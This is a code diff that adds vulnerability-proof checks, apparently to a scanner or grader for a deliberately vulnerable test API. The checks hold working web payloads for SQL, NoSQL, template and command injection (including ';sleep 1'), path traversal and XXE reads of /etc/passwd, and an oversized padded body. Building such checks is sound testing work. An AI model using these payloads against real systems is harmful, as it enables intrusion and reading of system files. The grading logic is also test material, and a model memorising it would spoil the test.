@@ -271,6 +271,59 @@ def _(t: Target) -> bool:
     return ok(t.get(t.list, "' OR 1=1 --", "x")) and t.get(t.list, "'", "x").status >= 500
 
 
+@proof("sql-injection")
+def _(t: Target) -> bool:
+    if t.list.endswith("/parts"):
+        return ok(t.own("/api/v1/parts/AX-100'%20AND%20'1'='1")) and ok(t.own("/api/v1/shelves/7-4"))
+    return len(t.own("/api/v1/moorings?pier=2%20OR%201=1").json()) == 3
+
+
+@proof("template-injection")
+def _(t: Target) -> bool:
+    return t.own("/api/v1/letters/preview?name=%7B%7B6*7%7D%7D").has("42")
+
+
+@proof("path-traversal")
+def _(t: Target) -> bool:
+    way = "%2e%2e%2f" * 12 + "etc%2fpasswd"
+    path = t.list + "/" + way if t.list.endswith("/charts") else f"/api/v1/manuals/text?name={way}"
+    return t.own(path).has("root:")
+
+
+@proof("nosql-injection")
+def _(t: Target) -> bool:
+    answer = t.own(t.list + "?rank%5B%24ne%5D=cook")
+    return ok(answer) and [member["name"] for member in answer.json()] == ["Ines", "Ruth"]
+
+
+@proof("command-injection")
+def _(t: Target) -> bool:
+    started = time.perf_counter()
+    t.own("/api/v1/tools/installed?tool=sh;sleep%201")
+    slept = time.perf_counter() - started > 1
+    return slept and t.own("/api/v1/tools/banner?text=%24((6*7))").json()["text"] == "42\n"
+
+
+@proof("xxe")
+def _(t: Target) -> bool:
+    head = '<!DOCTYPE o [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+    order = f"{head}<order><customer>&e;</customer><item>x</item></order>"
+    answer = t.own("/api/v1/orders/summary", method="POST", body=order)
+    return ok(answer) and answer.has("root:")
+
+
+@proof("crash-on-input")
+def _(t: Target) -> bool:
+    return t.own(t.list + "?since=soon").status == 500 and ok(t.own(t.list + "?days=many"))
+
+
+@proof("content-type-not-enforced")
+def _(t: Target) -> bool:
+    note = json.dumps({"text": "x"})
+    large = " " * 2_000_000 + note
+    return all(t.own(method="POST", body=body).status == 201 for body in (note, large))
+
+
 @proof("challenge-missing")
 def _(t: Target) -> bool:
     answer = t.get(t.list)
